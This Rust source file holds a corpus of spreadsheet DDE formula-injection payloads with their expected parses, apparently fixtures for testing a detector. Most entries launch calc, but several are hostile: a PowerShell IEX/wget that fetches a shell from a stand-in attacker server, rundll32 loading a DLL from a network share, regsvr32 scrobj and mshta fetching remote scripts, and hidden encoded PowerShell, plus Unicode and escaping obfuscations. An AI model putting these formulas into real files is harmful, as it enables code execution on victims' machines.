//! The published corpus of `spec/excel.md` §5.5, and the variants of Appendix C: traversal,
//! truncation, fillers, escapes, references.

use super::payload::{Disguise, Link, Payload};
use super::tokens::Token;
use super::tokens::Token::{Add, Concat, Div, Int, Link as L, Minus, Mul, Plus, Sub, Sum, Text};

const CALC: &str = "/C calc";
const CMD_EXE: &str = r"\..\..\..\Windows\System32\cmd.exe /c calc.exe";
const REGSVR: &str = r"\..\..\..\Windows\System32\regsvr32 /s /n /u /i:http://x scrobj.dll";
const DLL: &str = r"/C rundll32.exe \\10.0.0.1\3\2\1.dll,0";
const LONG: &str = "rundll321234567890abcdefghijklmnopqrstuvwxyz";

/// A payload of one link. `item` is what is found; in a table it stands the same.
fn one(
    name: &'static str,
    typed: &str,
    tokens: &[Token],
    (service, topic, item): (&str, &str, &str),
    image: &'static str,
) -> Payload {
    Payload {
        name,
        typed: typed.to_owned(),
        tokens: tokens.to_vec(),
        links: Some(vec![Link::new(service, topic, &[item])]),
        expected: vec![(service.to_owned(), topic.to_owned(), item.to_owned())],
        image,
        disguise: Disguise::None,
    }
}

fn text_only(payload: Payload) -> Payload {
    Payload {
        links: None,
        ..payload
    }
}

const LINK: Token = L(0, 1);

/// §5.5, in its order.
pub fn published() -> Vec<Payload> {
    let cmd = "cmd.exe";
    let minus = [LINK, Minus];
    let function = [Int(1), Int(9), Add, Sum(1), LINK, Mul];
    let ten = [Int(10), Int(20), Add, LINK, Add];
    let two = [Int(2), Int(5), Add, LINK, Add];
    let wget = "/C powershell IEX(wget attacker_server/shell.exe)";
    let mut long = vec![
        Int(1),
        Int(2),
        Add,
        Int(3),
        Sub,
        Text("Hello"),
        Int(12345),
        Div,
        Concat,
    ];
    long.extend([LINK, Concat]);
    let mut all = vec![
        one(
            "equals",
            "=cmd|'/C calc'!A0",
            &[LINK],
            ("cmd", CALC, "A0"),
            cmd,
        ),
        one(
            "plus",
            "+cmd|' /C calc'!A0",
            &[LINK, Plus],
            ("cmd", " /C calc", "A0"),
            cmd,
        ),
        one(
            "minus",
            "-cmd|'/C calc'!A0",
            &minus,
            ("cmd", CALC, "A0"),
            cmd,
        ),
        one(
            "function",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            &function,
            ("cmd", " /C calc", "A0"),
            cmd,
        ),
        one(
            "ten and twenty",
            "=10+20+cmd|' /C calc'!A0",
            &ten,
            ("cmd", " /C calc", "A0"),
            cmd,
        ),
        one(
            "two and five",
            "=2+5+cmd|' /C calc'!A0",
            &two,
            ("cmd", " /C calc", "A0"),
            cmd,
        ),
        one(
            "quoted item",
            "=cmd|' /C notepad'!'A1'",
            &[LINK],
            ("cmd", " /C notepad", "A1"),
            cmd,
        ),
        one(
            "a download",
            &format!("=cmd|'{wget}'!A0"),
            &[LINK],
            ("cmd", wget, "A0"),
            cmd,
        ),
        one(
            "a library on a share",
            r"=cmd|'/c rundll32.exe \\10.0.0.1\3\2\1.dll,0'!_xlbgnm.A1",
            &[LINK],
            ("cmd", &DLL.replace("/C", "/c"), "A1"),
            cmd,
        ),
        one(
            "names and texts before it",
            "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
            &long,
            ("cmd", "/c calc.exe", "A"),
            cmd,
        ),
        one(
            "unbalanced",
            "+thespanishinquisition(cmd|'/c calc.exe'!A",
            &[LINK],
            ("cmd", "/c calc.exe", "A"),
            cmd,
        ),
        one(
            "blanks",
            "=         cmd|'/c calc.exe'!A",
            &[LINK],
            ("cmd", "/c calc.exe", "A"),
            cmd,
        ),
        one(
            "rundll32",
            "=rundll32|'URL.dll,OpenURL calc.exe'!A",
            &[LINK],
            ("rundll32", "URL.dll,OpenURL calc.exe", "A"),
            "rundll32.exe",
        ),
        one(
            "eight characters",
            &format!("={LONG}|'URL.dll,OpenURL calc.exe'!A"),
            &[LINK],
            (LONG, "URL.dll,OpenURL calc.exe", "A"),
            "rundll32.exe",
        ),
        one(
            "traversal",
            &format!("=MSEXCEL|'{CMD_EXE}'!A1"),
            &[LINK],
            ("MSEXCEL", CMD_EXE, "A1"),
            cmd,
        ),
        one(
            "traversal, empty item",
            &format!("=MSEXCEL|'{REGSVR}'!''"),
            &[LINK],
            ("MSEXCEL", REGSVR, ""),
            "regsvr32.exe",
        ),
        text_only(one(
            "NULs",
            "=\0\0C\0\0m\0D\0|'/\0c calc.exe'\0!A",
            &[LINK],
            ("CmD", "/c calc.exe", "A"),
            cmd,
        )),
        one(
            "traversal in the arguments",
            r"=cmd|'/k \..\..\..\Windows\System32\calc.exe'!A0",
            &[LINK],
            ("cmd", r"/k \..\..\..\Windows\System32\calc.exe", "A0"),
            cmd,
        ),
    ];
    // "two links": both items stand in one link of the table.
    let typed = "=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A";
    let twice = one(
        "two links",
        typed,
        &[LINK, LINK, Mul],
        ("cmd", "/c calc.exe", "A"),
        cmd,
    );
    all.push(twice);
    all
}

/// Appendix C, beyond what was published.
pub fn variants() -> Vec<Payload> {
    let cmd = "cmd.exe";
    let calc = ("cmd", CALC, "A0");
    let slashes = "/../../../Windows/System32/cmd.exe /c calc.exe";
    let dots = r"..\..\..\Windows\System32\mshta.exe http://x/a.hta";
    let spaced =
        r"\..\..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -w hidden -e SQBFAFgA";
    let quotes = "/c echo 'a' & calc";
    let semicolons = "/c a;b,c;d";
    let mut all = vec![
        one(
            "case",
            "=cMd|'/C calc'!a0",
            &[LINK],
            ("cMd", CALC, "a0"),
            cmd,
        ),
        one(
            "with an extension",
            "='cmd.exe'|'/C calc'!A0",
            &[LINK],
            ("cmd.exe", CALC, "A0"),
            cmd,
        ),
        one("quoted service", "='cmd'|'/C calc'!A0", &[LINK], calc, cmd),
        one(
            "a path as service",
            r"='C:\Windows\System32\mshta'|'http://x/a.hta'!A0",
            &[LINK],
            (r"C:\Windows\System32\mshta", "http://x/a.hta", "A0"),
            "mshta.exe",
        ),
        one(
            "traversal with slashes",
            &format!("=MSEXCEL|'{slashes}'!A1"),
            &[LINK],
            ("MSEXCEL", slashes, "A1"),
            cmd,
        ),
        one(
            "traversal without a root",
            &format!("=winword|'{dots}'!A1"),
            &[LINK],
            ("winword", dots, "A1"),
            "mshta.exe",
        ),
        one(
            "traversal to PowerShell",
            &format!("=MSEXCEL|'{spaced}'!A1"),
            &[LINK],
            ("MSEXCEL", spaced, "A1"),
            "powershell.exe",
        ),
        one(
            "doubled quotes",
            "=cmd|'/c echo ''a'' & calc'!A0",
            &[LINK],
            ("cmd", quotes, "A0"),
            cmd,
        ),
        one(
            "delimiters in the topic",
            &format!("=cmd|'{semicolons}'!A0"),
            &[LINK],
            ("cmd", semicolons, "A0"),
            cmd,
        ),
        one(
            "item with other characters",
            "=cmd|'/C calc'!'x y[1],z'",
            &[LINK],
            ("cmd", CALC, "x y[1],z"),
            cmd,
        ),
        one(
            "item of junk",
            "=cmd|'/C calc'!_zzz.9",
            &[LINK],
            ("cmd", CALC, "_zzz.9"),
            cmd,
        ),
        one(
            "an argument of a function",
            "=SUM(1,cmd|'/C calc'!A0)",
            &[Int(1), LINK, Sum(2)],
            calc,
            cmd,
        ),
        one(
            "behind a text with a quote",
            "=\"a\"\"b|c!d\"&cmd|'/C calc'!A0",
            &[Text("a\"b|c!d"), LINK, Concat],
            calc,
            cmd,
        ),
        one(
            "bare topic",
            "=cmd|calc!A0",
            &[LINK],
            ("cmd", "calc", "A0"),
            cmd,
        ),
        text_only(one(
            "full width",
            "=\u{ff43}\u{ff4d}\u{ff44}|'/C calc'!A0",
            &[LINK],
            calc,
            cmd,
        )),
        text_only(one(
            "zero-width characters",
            "=c\u{200b}m\u{200d}d|'/C\u{feff} calc'!A\u{ad}0",
            &[LINK],
            calc,
            cmd,
        )),
        text_only(one(
            "no-break space",
            "=\u{a0}cmd|'/C calc'!A0",
            &[LINK],
            calc,
            cmd,
        )),
        text_only(one(
            "direction marks",
            "=\u{202e}cmd\u{202c}|'/C calc'!A0",
            &[LINK],
            calc,
            cmd,
        )),
        text_only(one(
            "curly quotes",
            "=cmd|\u{2018}/C calc\u{2019}!A0",
            &[LINK],
            calc,
            cmd,
        )),
        text_only(one(
            "control characters",
            "=c\u{1}md|'/C\u{7f} calc'!A0",
            &[LINK],
            calc,
            cmd,
        )),
    ];
    let disguises = [
        ("escapes", Disguise::XEscapes),
        ("references", Disguise::References),
        ("hexadecimal references", Disguise::HexReferences),
        ("sections", Disguise::Cdata),
        ("comments between the letters", Disguise::Comments),
        ("entities by name", Disguise::Names),
        ("markup between the letters", Disguise::Markup),
    ];
    for (name, disguise) in disguises {
        let typed = "=cmd|'/C calc'!A0";
        let plain = one(name, typed, &[LINK], calc, cmd);
        all.push(Payload { disguise, ..plain });
    }
    // Two different links in one formula.
    let mut two = one(
        "two different links",
        "=cmd|'/C calc'!A0+mshta|'http://x/a.hta'!B",
        &[LINK, L(1, 1), Add],
        calc,
        cmd,
    );
    if let Some(links) = &mut two.links {
        links.push(Link::new("mshta", "http://x/a.hta", &["B"]));
    }
    two.expected.push((
        "mshta".to_owned(),
        "http://x/a.hta".to_owned(),
        "B".to_owned(),
    ));
    all.push(two);
    all
}

/// Every payload.
pub fn all() -> Vec<Payload> {
    let mut all = published();
    all.extend(variants());
    all
}

/// LibreOffice's function: with its own arguments, in the carriers that LibreOffice opens.
pub fn function() -> Payload {
    text_only(one(
        "DDE function",
        "=DDE(\"cmd\";\"/C calc\";\"A0\")",
        &[LINK],
        ("cmd", CALC, "A0"),
        "cmd.exe",
    ))
}
